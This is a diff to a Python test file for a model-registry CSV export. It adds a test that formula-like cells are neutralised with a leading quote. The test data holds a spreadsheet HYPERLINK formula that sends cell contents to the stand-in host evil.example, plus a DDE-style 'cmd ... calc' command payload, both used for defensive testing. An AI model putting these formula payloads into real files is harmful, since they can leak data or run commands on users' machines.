@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import replace
 
 import pytest
@@ -217,3 +219,20 @@ def test_a_csv_row_puts_nested_values_as_json_and_names_who_approved():
     assert cells["approved_by"] == "olivia@example.com" and cells["model_validation_metrics"] == '{"auc":0.9}'
     assert cells["metadata_complete"] == "true" and cells["monitoring_alert"] == "false"
     assert to_csv([view]).splitlines()[0] == ",".join(CSV_HEADER)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_a_spreadsheet_would_run_is_shown_instead(start):
+    # Given registrant-controlled text that a spreadsheet would read as a formula
+    record = version_records()["development"]
+    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
+    view = {**record.view(), "stage_description": text, "model_owner": f"{start}cmd|' /C calc'!A0",
+            "model_validation_metrics": {"delta": -0.5}, "model_version": -1}  # fmt: skip
+    cells = row(view)
+    # Then it is written with a leading quote, and nothing else changes
+    assert cells["stage_description"] == "'" + text
+    assert cells["model_owner"].startswith("'" + start)
+    assert cells["model_validation_metrics"] == '{"delta":-0.5}' and cells["model_version"] == "-1"
+    parsed = next(csv.DictReader(io.StringIO(to_csv([view]))))
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for name, value in parsed.items()
+                   if name != "model_version")  # fmt: skip
